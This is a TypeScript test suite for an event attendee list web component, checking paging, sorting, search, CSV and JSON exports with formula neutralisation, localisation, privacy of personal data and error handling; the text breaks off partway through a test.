// <event-attendee-list> against the reference API behind the real proxy (private routes behind a
// bearer token, as a check-in desk uses it), and scripted servers for paging past 100, failures and
// hostile data. Expectations come from the wire JSON the test reads itself, never from the element.
import { expect, fixture, fixtureCleanup, html, oneEvent, waitUntil } from '@open-wc/testing';
import { sendKeys } from '@web/test-runner-commands';
import './event-attendee-list.js';
import type { AttendeeSelectDetail, EventAttendeeList } from './event-attendee-list.js';
import type { DownloadDetail } from '../../shared/staff/download.js';
import { cacheForOrigin } from '../../api/cache.js';
import { holdRequests, recordFetches } from '../../../test/helpers/fetches.js';
import { expectInert, expectLoadingSkeleton, langOf, part, parts, settled, stopServerAfterEach, text, xssPayloads } from '../../../test/helpers/element.js';
import { scriptedServer, type LoopbackServer, type Reply } from '../../../test/helpers/servers.js';
import {
  expectNonceSentAndExpired,
  expectStaffFailure,
  keptDownloads,
  proxiedSite,
  rowNames,
  totalsOf,
  wireAttendee,
  type WireAttendee,
} from '../../../test/helpers/staff.js';

const TOKEN = 'staff-token-for-attendee-tests-9876543210';
const ATTENDEES = '/wp/v2/mep_event_attendee';

/** The test's own reading of a wire attendee: meta values as sent, entities decoded where the site encodes them. */
interface Expected {
  id: number;
  name: string;
  email: string;
  phone: string;
  eventId: number;
  event: string;
  ticketType: string;
  /** `ea_event_date` as sent (`YYYY-MM-DD HH:MM:SS`). */
  eventDate: string;
  orderId: number;
  checkedIn: boolean;
}

const decode = (value: string) => new DOMParser().parseFromString(value, 'text/html').documentElement.textContent ?? '';

function read(wire: WireAttendee): Expected {
  const meta = (key: string) => wire.attendee_informations[key]?.[0] ?? '';
  return {
    id: wire.id,
    name: meta('ea_name'),
    email: meta('ea_email'),
    phone: meta('ea_phone'),
    eventId: Number(meta('ea_event_id')),
    event: decode(meta('ea_event_name')),
    ticketType: meta('ea_ticket_type'),
    eventDate: meta('ea_event_date'),
    orderId: Number(meta('ea_order_id')),
    checkedIn: ['yes', '1'].includes(meta('mep_checkin').toLowerCase()),
  };
}

/** A CSV field as RFC 4180 and OWASP's CSV-injection advice want it (the test's own version). */
const csvText = (value: string) => `"${(/^[=+\-@\t\r]/.test(value) ? `'${value}` : value).replace(/"/g, '""')}"`;
const fold = (value: string) => value.normalize('NFD').replace(/\p{M}/gu, '').toLowerCase();

function attendeeList(base: string, options: { eventId?: string; authorization?: string; perPage?: number; lang?: string } = {}) {
  return fixture<EventAttendeeList>(
    html`<event-attendee-list
      base-url=${base}
      event-id=${options.eventId ?? ''}
      lang=${options.lang ?? 'en'}
      .authorization=${options.authorization ?? ''}
      .perPage=${options.perPage ?? 50}
    ></event-attendee-list>`,
  );
}

const ticketTypes = (el: Element) =>
  Object.fromEntries(
    [...el.shadowRoot!.querySelectorAll<HTMLElement>('[part~="ticket-types"] tbody tr')].map((tr) => [tr.dataset['key'], text(tr.querySelector('td'))]),
  );

/** Counts per ticket type, as the summary should show them. */
function countsByType(rows: readonly Expected[]): Record<string, string> {
  const counts: Record<string, number> = {};
  for (const row of rows) counts[row.ticketType] = (counts[row.ticketType] ?? 0) + 1;
  return Object.fromEntries(Object.entries(counts).map(([type, count]) => [type, String(count)]));
}

describe('<event-attendee-list> through the proxy', () => {
  let proxy: LoopbackServer;
  let base: string;
  let all: Expected[];

  before(async () => {
    const site = await proxiedSite<WireAttendee>(TOKEN, ATTENDEES);
    ({ proxy, base } = site);
    all = site.all.map(read);
  });
  after(() => proxy.stop());
  afterEach(() => fixtureCleanup());

  /** Events by attendee count, the one with most check-ins first (ties: lower id). */
  function events(): { eventId: number; rows: Expected[] }[] {
    const groups = new Map<number, Expected[]>();
    for (const row of all) groups.set(row.eventId, [...(groups.get(row.eventId) ?? []), row]);
    const checkedIn = (rows: Expected[]) => rows.filter((row) => row.checkedIn).length;
    return [...groups]
      .map(([eventId, rows]) => ({ eventId, rows }))
      .sort((a, b) => checkedIn(b.rows) - checkedIn(a.rows) || b.rows.length - a.rows.length || a.eventId - b.eventId);
  }

  const attendeeRequests = async () => (await proxy.requests()).filter((request) => request.path.endsWith(ATTENDEES));

  it('shows a loading skeleton, then every attendee with counts (attendees, checked in, per ticket type) that match the site', async () => {
    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}` });
    await expectLoadingSkeleton(el);
    await settled(el);
    expect(all.length).to.be.greaterThan(0);
    expect(parts(el, 'row')).to.have.length(Math.min(50, all.length));
    expect(rowNames(el)).to.deep.equal(all.slice(0, 50).map((row) => row.name));
    expect(text(part(el, 'count'))).to.equal(`1–${Math.min(50, all.length)} of ${all.length}`);
    expect(totalsOf(el)).to.deep.equal({ attendees: String(all.length), 'checked-in': String(all.filter((row) => row.checkedIn).length) });
    expect(ticketTypes(el)).to.deep.equal(countsByType(all));
    // The check-in cell says yes or no in words.
    const first = parts(el, 'row')[0]!;
    expect(text(first.querySelector('[data-column="checked-in"]'))).to.equal(all[0]!.checkedIn ? 'Yes' : 'No');
    expect(text(first.querySelector('[data-column="event"]'))).to.equal(all[0]!.event);
    expect(text(first.querySelector('[data-column="order-id"]'))).to.equal(String(all[0]!.orderId));
    await expect(el).to.be.accessible();
  });

  it('event-id keeps only that event’s attendees and the summary follows, without asking the site again', async () => {
    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}` });
    await settled(el);
    const requested = (await attendeeRequests()).length;
    expect(requested).to.be.greaterThan(0);
    const [busiest, other] = events();
    expect(
      busiest!.rows.some((row) => row.checkedIn),
      'the seed has check-ins',
    ).to.equal(true);
    for (const { eventId, rows } of [busiest!, other!]) {
      el.setAttribute('event-id', String(eventId));
      await el.updateComplete;
      expect(rowNames(el), `event ${eventId}`).to.deep.equal(rows.map((row) => row.name));
      expect(el.allRows.map((row) => row.id)).to.deep.equal(rows.map((row) => row.id));
      expect(totalsOf(el)).to.deep.equal({ attendees: String(rows.length), 'checked-in': String(rows.filter((row) => row.checkedIn).length) });
      expect(ticketTypes(el)).to.deep.equal(countsByType(rows));
      expect(text(part(el, 'count'))).to.equal(`1–${rows.length} of ${rows.length}`);
      expect(text(part(el, 'print-header'))).to.equal(`Attendee list — ${rows[0]!.event}`);
      await expect(el).to.be.accessible();
    }
    el.eventId = '';
    await el.updateComplete;
    expect(totalsOf(el)['attendees']).to.equal(String(all.length));
    // An event nobody registered for: the empty state.
    el.eventId = '999999';
    await el.updateComplete;
    expect(text(part(el, 'empty'))).to.equal('No attendees yet.');
    await expect(el).to.be.accessible();
    // Give a stray request time to arrive: none does, the filter works on what was read.
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect((await attendeeRequests()).length).to.equal(requested);
  });

  it('Next fires the cancelable page-change, as every paged element does; cancelled, the page stays', async () => {
    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}`, perPage: 2 });
    await settled(el);
    const changed = oneEvent(el, 'page-change');
    (part(el, 'next') as HTMLButtonElement).click();
    const { detail } = (await changed) as CustomEvent<{ page: number; previousPage: number }>;
    expect(detail).to.deep.equal({ page: 2, previousPage: 1 });
    await el.updateComplete;
    expect(el.page).to.equal(2);
    el.addEventListener('page-change', (event) => event.preventDefault(), { once: true });
    (part(el, 'next') as HTMLButtonElement).click();
    await el.updateComplete;
    expect(el.page).to.equal(2);
    expect(rowNames(el)).to.deep.equal(all.slice(2, 4).map((row) => row.name));
  });

  it('a new event-id starts on the first page', async () => {
    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}`, perPage: 2 });
    await settled(el);
    el.page = 3;
    await el.updateComplete;
    expect(rowNames(el)).to.deep.equal(all.slice(4, 6).map((row) => row.name));
    const { eventId, rows } = events()[0]!;
    el.eventId = String(eventId);
    await el.updateComplete;
    expect(el.page).to.equal(1);
    expect(rowNames(el)).to.deep.equal(rows.slice(0, 2).map((row) => row.name));
  });

  it('CSV: BOM, CRLF, quoted text, localized headers, yes/no for check-in, formula starts neutralised; JSON keyed by column', async () => {
    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}` });
    await settled(el);
    const csv = el.toCsv();
    const expected = [
      '"Name","E-mail","Phone","Ticket type","Event","Event date","Order","Checked in"',
      ...all.map((row) =>
        [
          csvText(row.name),
          csvText(row.email),
          csvText(row.phone),
          csvText(row.ticketType),
          csvText(row.event),
          csvText(row.eventDate.replace(' ', 'T')),
          String(row.orderId),
          csvText(row.checkedIn ? 'Yes' : 'No'),
        ].join(','),
      ),
    ];
    expect(csv).to.equal(`\uFEFF${expected.join('\r\n')}\r\n`);
    // The seed's phone numbers start with "+": a spreadsheet would read them as formulas.
    expect(csv).to.match(/"'\+\d/);
    // Both answers occur in the seed (past events are mostly checked in, upcoming ones not).
    expect(csv).to.contain('"Yes"\r\n');
    expect(csv).to.contain('"No"\r\n');
    const json = JSON.parse(el.toJson()) as Record<string, unknown>[];
    expect(json).to.deep.equal(
      all.map((row) => ({
        name: row.name,
        email: row.email,
        phone: row.phone,
        'ticket-type': row.ticketType,
        event: row.event,
        'event-date': row.eventDate.replace(' ', 'T'),
        'order-id': row.orderId,
        'checked-in': row.checkedIn,
      })),
    );
    // `columns` picks and orders what both exports hold.
    el.columns = 'id checked-in name';
    await el.updateComplete;
    expect(el.toCsv().split('\r\n')[0]).to.equal('\uFEFF"Attendee id","Checked in","Name"');
    expect(Object.keys((JSON.parse(el.toJson()) as Record<string, unknown>[])[0]!)).to.deep.equal(['id', 'checked-in', 'name']);
  });

  it('sorts by keyboard: Enter or Space on a column header sorts ascending, again descending, with aria-sort; ties keep the site’s order', async () => {
    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}`, perPage: 100 });
    await settled(el);
    const header = (key: string) => el.shadowRoot!.querySelector<HTMLElement>(`th[data-column="${key}"]`)!;
    const collator = new Intl.Collator('en', { numeric: true, sensitivity: 'base' });
    const stable = (compare: (a: Expected, b: Expected) => number) =>
      all
        .map((row, index) => ({ row, index }))
        .sort((a, b) => compare(a.row, b.row) || a.index - b.index)
        .map((entry) => entry.row.name);

    header('name').querySelector('button')!.focus();
    await sendKeys({ press: 'Enter' });
    await el.updateComplete;
    expect(header('name').getAttribute('aria-sort')).to.equal('ascending');
    expect(rowNames(el)).to.deep.equal(stable((a, b) => collator.compare(a.name, b.name)));
    await sendKeys({ press: 'Space' });
    await el.updateComplete;
    expect(header('name').getAttribute('aria-sort')).to.equal('descending');
    expect(rowNames(el)).to.deep.equal(stable((a, b) => collator.compare(b.name, a.name)));
    expect(el.sort).to.equal('-name');

    // Orders as numbers; two attendees share each order, and stay in the site's order.
    header('order-id').querySelector('button')!.focus();
    await sendKeys({ press: 'Space' });
    await el.updateComplete;
    expect(header('order-id').getAttribute('aria-sort')).to.equal('ascending');
    expect(header('name').hasAttribute('aria-sort')).to.equal(false);
    expect(rowNames(el)).to.deep.equal(stable((a, b) => a.orderId - b.orderId));
    await sendKeys({ press: 'Enter' });
    await el.updateComplete;
    expect(header('order-id').getAttribute('aria-sort')).to.equal('descending');
    expect(rowNames(el)).to.deep.equal(stable((a, b) => b.orderId - a.orderId));
    expect(el.shadowRoot!.querySelectorAll('th[aria-sort]')).to.have.length(1);
    // The export follows the table's order.
    expect(
      el
        .toCsv()
        .split('\r\n')[1]!
        .startsWith(csvText(stable((a, b) => b.orderId - a.orderId)[0]!)),
    ).to.equal(true);
    await expect(el).to.be.accessible();
  });

  it('searches the shown columns, accents and case ignored; the CSV holds the matches of every page', async () => {
    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}`, perPage: 3 });
    await settled(el);
    const target = all.find((row) => /[À-ž]/.test(row.name)) ?? all[0]!;
    const word = target.name.split(' ').find((part) => /[À-ž]/.test(part)) ?? target.name.split(' ')[0]!;
    const input = el.shadowRoot!.querySelector<HTMLInputElement>('input[type="search"]')!;
    input.focus();
    await sendKeys({ type: fold(word).toUpperCase() });
    await el.updateComplete;
    const expected = all.filter((row) =>
      [row.name, row.email, row.phone, row.ticketType, row.event, String(row.orderId), row.checkedIn ? 'Yes' : 'No'].some((value) =>
        fold(value).includes(fold(word)),
      ),
    );
    expect(expected.length).to.be.greaterThan(0);
    expect(el.search).to.equal(fold(word).toUpperCase());
    expect(el.matchingRows.map((row) => row.id)).to.deep.equal(expected.map((row) => row.id));
    expect(rowNames(el)).to.deep.equal(expected.slice(0, 3).map((row) => row.name));
    expect(text(part(el, 'count'))).to.equal(`1–${Math.min(3, expected.length)} of ${expected.length}`);
    expect(el.toCsv().split('\r\n').length - 2).to.equal(expected.length);
    // The summary still counts everyone: the search narrows the table, not the event.
    expect(totalsOf(el)['attendees']).to.equal(String(all.length));
    await sendKeys({ type: 'zzzz-nobody' });
    await el.updateComplete;
    expect(text(part(el, 'count'))).to.equal(`No rows match “${fold(word).toUpperCase()}zzzz-nobody”.`);
    expect(part(el, 'table')).to.equal(null);
    await expect(el).to.be.accessible();
  });

  it('fires attendee-select from the name button (click or Enter) with the attendee', async () => {
    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}` });
    await settled(el);
    const buttons = parts(el, 'row-button');
    let picked = oneEvent(el, 'attendee-select');
    buttons[0]!.click();
    const first = ((await picked) as CustomEvent<AttendeeSelectDetail>).detail.attendee;
    expect({ id: first.id, name: first.name, email: first.email, eventId: first.eventId, checkedIn: first.checkedIn }).to.deep.equal({
      id: all[0]!.id,
      name: all[0]!.name,
      email: all[0]!.email,
      eventId: all[0]!.eventId,
      checkedIn: all[0]!.checkedIn,
    });
    picked = oneEvent(el, 'attendee-select');
    buttons[1]!.focus();
    await sendKeys({ press: 'Enter' });
    expect(((await picked) as CustomEvent<AttendeeSelectDetail>).detail.attendee.id).to.equal(all[1]!.id);
  });

  it('download: a cancelable event with the file name, type and content, for the whole list and for one event', async () => {
    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}` });
    await settled(el);
    const downloads: DownloadDetail[] = [];
    el.addEventListener('download', (event) => {
      expect(event.cancelable).to.equal(true);
      event.preventDefault();
      downloads.push(event.detail);
    });
    part(el, 'download-csv')!.click();
    part(el, 'download-json')!.click();
    const { eventId } = events()[0]!;
    el.eventId = String(eventId);
    await el.updateComplete;
    part(el, 'download-csv')!.click();
    el.downloadJson();
    expect(downloads.map((d) => [d.filename, d.type])).to.deep.equal([
      ['attendees.csv', 'text/csv;charset=utf-8'],
      ['attendees.json', 'application/json'],
      [`attendees-event-${eventId}.csv`, 'text/csv;charset=utf-8'],
      [`attendees-event-${eventId}.json`, 'application/json'],
    ]);
    expect(downloads[0]!.content.split('\r\n')).to.have.length(all.length + 2);
    expect(downloads[2]!.content).to.equal(el.toCsv());
    expect(downloads[3]!.content).to.equal(el.toJson());
    // Canceled: no link was left behind for a browser download.
    expect(el.shadowRoot!.querySelector('a[download]')).to.equal(null);
  });

  it('asks with cache: no-store, so no browser HTTP cache keeps the personal data', async () => {
    const fetches = recordFetches();
    try {
      const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}` });
      await settled(el);
      expect(el.allRows.length).to.be.greaterThan(0);
    } finally {
      fetches.restore();
    }
    const calls = fetches.to(ATTENDEES);
    expect(calls.length).to.be.greaterThan(0);
    expect(calls.map((call) => call.cache)).to.deep.equal(calls.map(() => 'no-store'));
  });

  it('personal data stays private: no attribute, not in the shared cache or storage, dropped on removal', async () => {
    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}` });
    await settled(el);
    expect(el.hasAttribute('authorization')).to.equal(false);
    expect(el.outerHTML).to.not.contain(TOKEN);
    for (const attribute of el.attributes) {
      for (const row of all) expect([row.name, row.email, row.phone], attribute.name).to.not.include(attribute.value);
    }
    expect(el.outerHTML).to.not.contain(all[0]!.email);
    expect(el.allRows).to.have.length(all.length);
    // The page-wide cache of the proxy's origin holds no attendees answer: asked anew, without the token, it is refused.
    const cached = await cacheForOrigin(proxy.origin)
      .get({ url: `${base}${ATTENDEES}?page=1&per_page=100`, ttlMs: 60_000 })
      .catch((error: unknown) => error);
    expect(cached).to.have.property('status', 401);
    const stored = JSON.stringify(localStorage) + JSON.stringify(sessionStorage);
    for (const row of all) expect(stored).to.not.contain(row.email);
    el.remove();
    expect(el.allRows).to.deep.equal([]);
    expect(el.matchingRows).to.deep.equal([]);
  });

  it('without the token: "Sign in to see attendees.", no rows, no retry; setting authorization loads', async () => {
    const el = await attendeeList(base, {});
    await settled(el);
    await expectStaffFailure(el, 'sign-in', 'Sign in to see attendees.');
    expect(part(el, 'table')).to.equal(null);
    expect(el.allRows).to.deep.equal([]);
    el.authorization = `Bearer ${TOKEN}`;
    await el.updateComplete;
    await settled(el, ['list']);
    expect(parts(el, 'row')).to.have.length(Math.min(50, all.length));
    expect(totalsOf(el)['attendees']).to.equal(String(all.length));
  });

  it('on a French page, its English interface sits in lang="en" and the site\'s names, events, ticket types and dates stay French; yes/no stay English; German and English add no lang', async () => {
    // WCAG 3.1.2: English words inheriting lang="fr" are read with French rules.
    const cell = (el: Element, column: string) => el.shadowRoot!.querySelector(`[part~="cell"][data-column="${column}"]`);
    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}`, lang: 'fr' });
    await settled(el);
    expect(text(part(el, 'print'))).to.equal('Print');
    for (const ui of ['toolbar', 'totals', 'header', 'count']) expect(langOf(part(el, ui)), ui).to.equal('en');
    expect(langOf(el.shadowRoot!.querySelector('[part~="ticket-types"] caption')), 'a summary caption').to.equal('en');
    expect(langOf(cell(el, 'checked-in')), 'yes/no').to.equal('en');
    for (const site of ['name', 'ticket-type', 'event', 'event-date']) expect(langOf(cell(el, site)), site).to.equal('fr');
    expect(langOf(el.shadowRoot!.querySelector('[part~="ticket-types"] tbody th')), 'a ticket type in the summary').to.equal('fr');
    expect(el.getAttribute('lang'), "the page's attribute is left as written").to.equal('fr');
    const signIn = await attendeeList(base, { lang: 'fr' });
    await settled(signIn);
    expect(langOf(part(signIn, 'error')), 'the sign-in message').to.equal('en');

    for (const lang of ['de', 'en']) {
      const other = await attendeeList(base, { authorization: `Bearer ${TOKEN}`, lang });
      await settled(other);
      const langs = [...other.shadowRoot!.querySelectorAll('[lang]')].map((node) => node.getAttribute('lang'));
      expect(langs, lang).to.deep.equal([lang]);
    }
  });

  it('speaks German with lang="de": toolbar, summary, headers, yes/no, exports and the sign-in message', async () => {
    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}`, lang: 'de' });
    await settled(el);
    expect(text(part(el, 'search'))).to.equal('Suchen');
    expect(text(part(el, 'download-csv'))).to.equal('CSV herunterladen');
    expect(text(part(el, 'download-json'))).to.equal('JSON herunterladen');
    expect(text(part(el, 'print'))).to.equal('Drucken');
    expect([...el.shadowRoot!.querySelectorAll('[part~="totals"] dt')].map(text)).to.deep.equal(['Teilnehmende', 'Eingecheckt']);
    expect(text(el.shadowRoot!.querySelector('[part~="ticket-types"] caption'))).to.equal('Nach Ticketart');
    expect(parts(el, 'sort-button').map(text)).to.deep.equal([
      'Name↕',
      'E-Mail↕',
      'Telefon↕',
      'Ticketart↕',
      'Veranstaltung↕',
      'Termin↕',
      'Bestellung↕',
      'Eingecheckt↕',
    ]);
    expect(text(part(el, 'count'))).to.equal(`1–${Math.min(50, all.length)} von ${all.length}`);
    expect(text(parts(el, 'row')[0]!.querySelector('[data-column="checked-in"]'))).to.equal(all[0]!.checkedIn ? 'Ja' : 'Nein');
    expect(el.toCsv().split('\r\n')[0]).to.equal('\uFEFF"Name","E-Mail","Telefon","Ticketart","Veranstaltung","Termin","Bestellung","Eingecheckt"');
    expect(el.toCsv()).to.contain(all[0]!.checkedIn ? '"Ja"\r\n' : '"Nein"\r\n');
    await expect(el).to.be.accessible();
    el.authorization = '';
    await el.updateComplete;
    await settled(el, ['error']);
    expect(text(part(el, 'error-message'))).to.equal('Melden Sie sich an, um die Teilnehmenden zu sehen.');
    await expect(el).to.be.accessible();
  });
});

describe('<event-attendee-list> paging, failures and hostile data', () => {
  let server: LoopbackServer | undefined;
  stopServerAfterEach(() => server, { cleanup: true, reset: () => (server = undefined) });

  async function scripted(status: number, body: unknown): Promise<string> {
    server = await scriptedServer([{ status, body }]);
    return `${server.origin}/wp-json`;
  }

  it('a download whose read of the rows past 5 000 fails offers no file, keeps the rows and says why; the next one works', async () => {
    const paging = { 'X-WP-Total': '5150', 'X-WP-TotalPages': '52' };
    const routes: Record<string, Reply[]> = {};
    for (let page = 1; page <= 50; page++)
      routes[`?page=${page}&`] = [{ status: 200, headers: paging, body: Array.from({ length: 100 }, (_, n) => wireAttendee(page * 1000 + n)) }];
    const failure: Reply = { status: 500, body: { code: 'internal_server_error', message: 'There has been a critical error.', data: { status: 500 } } };
    routes['?page=51&'] = [failure, { status: 200, headers: paging, body: Array.from({ length: 100 }, (_, n) => wireAttendee(51_000 + n)) }];
    routes['?page=52&'] = [{ status: 200, headers: paging, body: Array.from({ length: 50 }, (_, n) => wireAttendee(52_000 + n)) }];
    server = await scriptedServer([{ status: 400, body: { code: 'rest_invalid_param', message: 'unexpected request', data: { status: 400 } } }], routes);
    const el = await attendeeList(`${server.origin}/wp-json`, { authorization: 'Bearer x' });
    await settled(el);
    expect(el.allRows).to.have.length(5000);
    const downloads = keptDownloads(el);
    await el.downloadCsv();
    await el.updateComplete;
    expect(downloads, 'no header-only or partial file').to.have.length(0);
    expect(el.allRows, 'the rows shown stay').to.have.length(5000);
    expect(part(el, 'download-error')!.getAttribute('role')).to.equal('alert');
    expect(text(part(el, 'download-error'))).to.match(/^No file was made: not every row could be read\. \S/);
    expect(part(el, 'truncated')).not.to.equal(null);
    await el.downloadCsv();
    await el.updateComplete;
    expect(downloads).to.have.length(1);
    expect(downloads[0]!.content.split('\r\n')).to.have.length(5150 + 2);
    expect(part(el, 'download-error')).to.equal(null);
    expect(part(el, 'truncated')).to.equal(null);
  });

  it('stopped at 5 000 rows without paging headers: the notice says the first 5,000, claiming no total', async () => {
    const routes: Record<string, Reply[]> = {};
    for (let page = 1; page <= 50; page++)
      routes[`?page=${page}&`] = [{ status: 200, body: Array.from({ length: 100 }, (_, n) => wireAttendee(page * 1000 + n)) }];
    server = await scriptedServer([{ status: 400, body: { code: 'rest_invalid_param', message: 'unexpected request', data: { status: 400 } } }], routes);
    const el = await attendeeList(`${server.origin}/wp-json`, { authorization: 'Bearer x' });
    await settled(el);
    expect(el.allRows).to.have.length(5000);
    expect(text(part(el, 'truncated'))).to.equal('Showing the first 5,000 rows; there may be more.');
  });

  it('an event-id set while a download reads the rows past 5 000 joins that read; its failure is the download’s, never an unhandled rejection', async () => {
    const paging = { 'X-WP-Total': '5050', 'X-WP-TotalPages': '51' };
    const routes: Record<string, Reply[]> = {};
    for (let page = 1; page <= 50; page++)
      routes[`?page=${page}&`] = [{ status: 200, headers: paging, body: Array.from({ length: 100 }, (_, n) => wireAttendee(page * 1000 + n)) }];
    routes['?page=51&'] = [
      { status: 500, delayMs: 200, body: { code: 'internal_server_error', message: 'There has been a critical error.', data: { status: 500 } } },
    ];
    server = await scriptedServer([{ status: 400, body: { code: 'rest_invalid_param', message: 'unexpected request', data: { status: 400 } } }], routes);
    const el = await attendeeList(`${server.origin}/wp-json`, { authorization: 'Bearer x' });
    await settled(el);
    const unhandled: unknown[] = [];
    const onUnhandled = (event: PromiseRejectionEvent) => {
      unhandled.push(event.reason);
      event.preventDefault();
    };
    window.addEventListener('unhandledrejection', onUnhandled);
    try {
      const download = el.downloadCsv();
      // Fifty pages come first: more than waitUntil's default second on a busy machine.
      await waitUntil(async () => (await server!.requests()).some((request) => request.search.startsWith('?page=51&')), 'the read past 5 000', {
        timeout: 10_000,
      });
      el.eventId = '7';
      await download;
      await el.updateComplete;
      // Unhandled rejections are reported after the microtasks of the task that rejected.
      await new Promise((resolve) => setTimeout(resolve, 50));
    } finally {
      window.removeEventListener('unhandledrejection', onUnhandled);
    }
    expect(unhandled).to.deep.equal([]);
    expect(text(part(el, 'download-error'))).to.match(/^No file was made: not every row could be read\. \S/);
    expect(el.allRows, 'the rows read stay, narrowed to the event').to.have.length(5000);
  });

  /**
   * A list stopped at 5 000 of 5 050 rows whose download `stop` interrupts while page 51 is held
   * (whatever the machine's speed); the download has settled when this resolves.
   */
  async function downloadStoppedBy(stop: (el: EventAttendeeList) => void): Promise<{ el: EventAttendeeList; downloads: DownloadDetail[] }> {
    const paging = { 'X-WP-Total': '5050', 'X-WP-TotalPages': '51' };
    const routes: Record<string, Reply[]> = {};
    for (let page = 1; page <= 50; page++)
      routes[`?page=${page}&`] = [{ status: 200, headers: paging, body: Array.from({ length: 100 }, (_, n) => wireAttendee(page * 1000 + n)) }];
    routes['?page=51&'] = [{ status: 200, headers: paging, body: Array.from({ length: 50 }, (_, n) => wireAttendee(51_000 + n)) }];
    server = await scriptedServer([{ status: 400, body: { code: 'rest_invalid_param', message: 'unexpected request', data: { status: 400 } } }], routes);
    const el = await attendeeList(`${server.origin}/wp-json`, { authorization: 'Bearer x' });
    await settled(el);
    const downloads = keptDownloads(el);
    // The recorder (installed over the hold) sees the request as it starts.
    const held = holdRequests('page=51&');
    const fetches = recordFetches();
    try {
      const download = el.downloadCsv();
      await waitUntil(() => fetches.calls.some((call) => call.url.includes('page=51&')), 'the read past 5 000', { timeout: 10_000 });
      stop(el);
      await el.updateComplete;
      held.release();
      await download;
    } finally {
      fetches.restore();
      held.release();
      held.restore();
    }
    return { el, downloads };
  }

  // A new load stops the read: new credentials, or the same list loaded again (`reload()`, as a new
  // `base-url` would). Either way no file, and a word on why.
  const stoppers: ReadonlyArray<readonly [string, (el: EventAttendeeList) => void, string]> = [
    ['a new token', (el) => (el.authorization = 'Bearer y'), 'No file was made: the sign-in changed. Download again.'],
    ['reload()', (el) => el.reload(), 'No file was made: the list changed while it was read. Download again.'],
  ];
  for (const [what, stop, message] of stoppers)
    it(`${what} while a download reads the rows past 5 000 stops it and says so, to try again; the next download works`, async () => {
      const { el, downloads } = await downloadStoppedBy(stop);
      await settled(el, ['list']);
      expect(downloads, 'no file').to.have.length(0);
      expect(part(el, 'download-error')!.getAttribute('role')).to.equal('alert');
      expect(text(part(el, 'download-error'))).to.equal(message);
      await el.downloadCsv();
      expect(downloads).to.have.length(1);
      expect(downloads[0]!.content.split('\r\n')).to.have.length(5050 + 2);
    });

  it('removed while a download reads the rows past 5 000: no file, and back in the page no word about it (nobody saw it stop)', async () => {
    let parent: Element | null = null;
    const { el, downloads } = await downloadStoppedBy((el) => {
      parent = el.parentElement;
      el.remove();
    });
    parent!.append(el);
    await settled(el, ['list']);
    expect(downloads, 'no file').to.have.length(0);
    expect(part(el, 'download-error')).to.equal(null);
  });

  it('with event-id (every page read), a site that always announces one more page stops at 10 000 pages and says so', async function () {
    this.timeout(60_000);
    // A fake site in the page (ten thousand loopback requests take minutes): one row a page, so no
    // full page repeats and only the page limit ends the read.
    const original = globalThis.fetch;
    let asked = 0;
    globalThis.fetch = async () => {
      asked++;
      return new Response(JSON.stringify([wireAttendee(1)]), {
        headers: { 'Content-Type': 'application/json', 'X-WP-Total': '999999999', 'X-WP-TotalPages': '999999999' },
      });
    };
    try {
      const el = await attendeeList('https://endless.example/wp-json', { authorization: 'Bearer x', eventId: '7' });
      await settled(el, ['error'], 'the page limit', 50_000);
      await expectStaffFailure(el, 'other', 'Stopped after 10,000 pages: the site announces more.');
      expect(asked).to.equal(10_000);
    } finally {
      globalThis.fetch = original;
    }
  });

  it('reads every page when more than 100 exist (X-WP-Total / X-WP-TotalPages), one after another; CSV holds every row', async () => {
    const rows = Array.from({ length: 150 }, (_, index) => wireAttendee(1000 + index));
    const paging = { 'X-WP-Total': '150', 'X-WP-TotalPages': '2' };
    const page = (items: WireAttendee[]): Reply[] => [{ status: 200, headers: paging, body: items }];
    server = await scriptedServer([{ status: 400, body: { code: 'rest_invalid_param', message: 'unexpected request', data: { status: 400 } } }], {
      '?page=1&': page(rows.slice(0, 100)),
      '?page=2&': page(rows.slice(100)),
    });
    const el = await attendeeList(`${server.origin}/wp-json`, { authorization: 'Bearer x', perPage: 200 });
    await settled(el);
    const requests = await server.requests();
    expect(requests.map((r) => [r.path, r.search, r.authorization])).to.deep.equal([
      [`/wp-json${ATTENDEES}`, '?page=1&per_page=100', true],
      [`/wp-json${ATTENDEES}`, '?page=2&per_page=100', true],
    ]);
    expect(requests.map((r) => r.concurrent)).to.deep.equal([1, 1]);
    expect(parts(el, 'row')).to.have.length(150);
    expect(text(part(el, 'count'))).to.equal('1–150 of 150');
    expect(part(el, 'truncated')).to.equal(null);
    expect(totalsOf(el)).to.deep.equal({ attendees: '150', 'checked-in': String(rows.filter((row) => row.id % 3 === 0).length) });
    const csv = el.toCsv().split('\r\n');
    expect(csv).to.have.length(152);
    expect(csv[100]).to.contain('"Guest 1099"');
    expect(csv[150]).to.contain('"Guest 1149"');
    expect(JSON.parse(el.toJson())).to.have.length(150);
    // The table's own paging over what was read: the last page holds the second request's rows.
    el.perPage = 50;
    el.page = 3;
    await el.updateComplete;
    expect(text(part(el, 'count'))).to.equal('101–150 of 150');
    expect(rowNames(el)[0]).to.equal('Guest 1100');
    expect(await server.requests()).to.have.length(2);
  });

  it('403 rest_forbidden (WordPress answers it only to a signed-in account without the right): says so, not "sign in"', async () => {
    const el = await attendeeList(await scripted(403, { code: 'rest_forbidden', message: 'Sorry', data: { status: 403 } }), { authorization: 'Bearer x' });
    await settled(el);
    await expectStaffFailure(el, 'forbidden', "This account may not see attendees. Ask the site's administrator.");
  });

  it('401 rest_forbidden (not signed in): the sign-in state', async () => {
    const el = await attendeeList(await scripted(401, { code: 'rest_forbidden', message: 'Sorry', data: { status: 401 } }), {});
    await settled(el);
    await expectStaffFailure(el, 'sign-in', 'Sign in to see attendees.');
  });

  it('an expired nonce says so; the nonce attribute goes out as X-WP-Nonce', async () => {
    const base = await scripted(403, { code: 'rest_cookie_invalid_nonce', message: 'Cookie check failed', data: { status: 403 } });
